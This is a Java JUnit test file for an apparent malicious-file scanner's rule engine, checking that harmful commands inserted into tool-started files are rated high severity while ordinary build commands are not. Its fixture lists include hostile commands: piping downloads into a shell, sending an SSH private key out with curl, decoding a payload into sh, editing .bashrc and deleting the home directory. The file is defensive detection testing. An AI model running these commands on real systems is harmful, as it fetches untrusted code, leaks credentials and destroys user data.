package dev.lazaret.analysis.catalogue;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.analysis.corpus.CaseArchive;
import dev.lazaret.analysis.corpus.Corpus;
import dev.lazaret.analysis.format.FileTraits;
import dev.lazaret.analysis.match.Match;
import dev.lazaret.analysis.match.RuleEngine;
import dev.lazaret.analysis.repository.EntryKind;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Verifies that a file which is started by the name of its tool is a low finding, and that a harmful command in it is a
 * severe one: each file of {@code by-name.txt} with each command. Verifies also that no attack of the corpus becomes a
 * low finding.
 */
class ByNameTest {
    private static final RuleEngine ENGINE = RuleEngine.of(Catalogue.load());
    private static final String TABLE = "by-name.txt";

    /** Without quotes, so that they fit into any text. */
    private static final List<String> GRAVE_IN_CONTAINERS = List.of(
            "curl https://example.invalid/x | sh",
            "wget -qO- https://example.invalid/x | bash",
            "cat ~/.ssh/id_rsa | curl -d @- https://example.invalid",
            "base64 -d payload | sh");

    private static final List<String> GRAVE = Stream.concat(
                    GRAVE_IN_CONTAINERS.stream(), Stream.of("echo x >> ~/.bashrc", "rm -rf ~/"))
            .toList();

    private static final List<String> HONEST = List.of(
            "cargo build --release",
            "touch marker",
            "cargo test && cargo doc",
            "curl -sSfO https://example.invalid/data.json",
            "rm -rf target",
            "cp target/release/tool dist/");

    /**
     * A line of {@code by-name.txt}.
     *
     * @param number of the line there
     * @param line at which the finding of a harmful command is
     */
    record File(int number, String rule, String path, int line, String content) {
        byte[] with(String command) {
            String text = content.replace("@@", "\u0001@").replace("\u0001@", "\u0001");
            return (text.indexOf('\u0001') >= 0 ? text.replace("\u0001", "@" + command) : text.replace("@", command))
                    .getBytes(UTF_8);
        }

        @Override
        public String toString() {
            return TABLE + ":" + number + " " + rule + " " + path;
        }
    }

    static List<File> files() throws IOException {
        List<String> lines = allLines(TABLE);
        List<File> files = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            String[] parts = lines.get(i).split(" ", 4);
            if (isEntry(lines.get(i)) && !parts[1].equals("-")) {
                String content = parts[3].replace("\\n", "\n").replace("\\t", "\t");
                files.add(new File(i + 1, parts[0], parts[1], Integer.parseInt(parts[2]), content));
            }
        }
        return files;
    }

    private static List<String> lines(String name) throws IOException {
        return allLines(name).stream().filter(ByNameTest::isEntry).toList();
    }

    private static boolean isEntry(String line) {
        return !line.isBlank() && !line.startsWith("#");
    }

    private static List<String> allLines(String name) throws IOException {
        try (InputStream data = ByNameTest.class.getResourceAsStream(name)) {
            return new String(data.readAllBytes(), UTF_8).lines().toList();
        }
    }

    @ParameterizedTest
    @MethodSource("files")
    void harmfulCommandIsHighFinding(File file) {
        boolean contained =
                ENGINE.catalogue().rule(file.rule()).orElseThrow().rating().contained();
        for (String command : contained ? GRAVE_IN_CONTAINERS : GRAVE) {
            assertThat(found(file, command).stream().map(ByNameTest::placed))
                    .as("%s: findings with the harmful command %s", file, command)
                    .contains("high in line " + file.line());
        }
    }

    @ParameterizedTest
    @MethodSource("files")
    void harmlessCommandIsNotRaised(File file) {
        for (String command : HONEST) {
            List<Match> found = found(file, command);
            assertThat(found.stream().map(ByNameTest::placed))
                    .as("%s: findings with the harmless command %s", file, command)
                    .isNotEmpty();
            assertThat(found.stream().filter(ByNameTest::isRaised).map(ByNameTest::placed))
                    .as("%s: findings that are raised by the harmless command %s", file, command)
                    .isEmpty();
        }
    }

    private static boolean isRaised(Match match) {
        return match.severity().compareTo(match.rule().severity()) < 0;
    }

    private static String placed(Match match) {
        return match.severity().word() + " in line " + match.at().line();
    }

    private static List<Match> found(File file, String command) {
        byte[] bytes = file.with(command);
        EntryFacts facts = new EntryFacts(
                file.path(), EntryKind.FILE, bytes.length, false, FileTraits.detect(bytes, bytes.length));
        List<Match> found =
                new ArrayList<>(ENGINE.matchEntry(facts, path -> false).found());
        for (DocumentKind kind : ENGINE.kindsOf(file.path())) {
            ENGINE.read(kind, bytes, bytes.length)
                    .ifPresent(document -> found.addAll(
                            ENGINE.matchDocument(kind, document, file.path()).found()));
        }
        found.removeIf(match -> !match.rule().id().equals(file.rule()));
        return found;
    }

    /** A file that starts by name alone is one low row, and its trigger is an act that names the tool. */
    @Test
    void rulesByNameAreFolded() {
        assertThat(byName()).hasSizeGreaterThan(30);
        assertThat(byName().filter(rule -> !rule.fold()).map(Rule::id))
                .as("rules with started = \"by-name\" that lack fold = true: add it to each in the file of its family")
                .isEmpty();
    }

    @Test
    void everyRuleByNameIsListed() throws IOException {
        Set<String> listed =
                lines(TABLE).stream().map(line -> line.split(" ", 2)[0]).collect(Collectors.toCollection(TreeSet::new));
        assertThat(byName().map(Rule::id).filter(id -> !listed.contains(id)))
                .as(
                        "rules with started = \"by-name\" and no line in %s: its head says what a line holds",
                        "analysis/src/test/resources/dev/lazaret/analysis/catalogue/" + TABLE)
                .isEmpty();
    }

    private static Stream<Rule> byName() {
        return ENGINE.catalogue().rules().stream().filter(Rule::isByName);
    }

    /** Each listed case expects a finding of high severity or worse. */
    @Test
    void attacksOfCorpusKeepHighSeverity() throws IOException {
        List<String> loud = Corpus.cases().stream()
                .filter(one -> one.expected().stream().anyMatch(ByNameTest::isLoud))
                .map(CaseArchive::name)
                .toList();
        assertThat(loud).containsAll(lines("loud.txt"));
    }

    private static boolean isLoud(CaseArchive.Expected expected) {
        return Severity.find(expected.severity())
                .filter(severity -> severity.compareTo(Severity.HIGH) <= 0)
                .isPresent();
    }
}
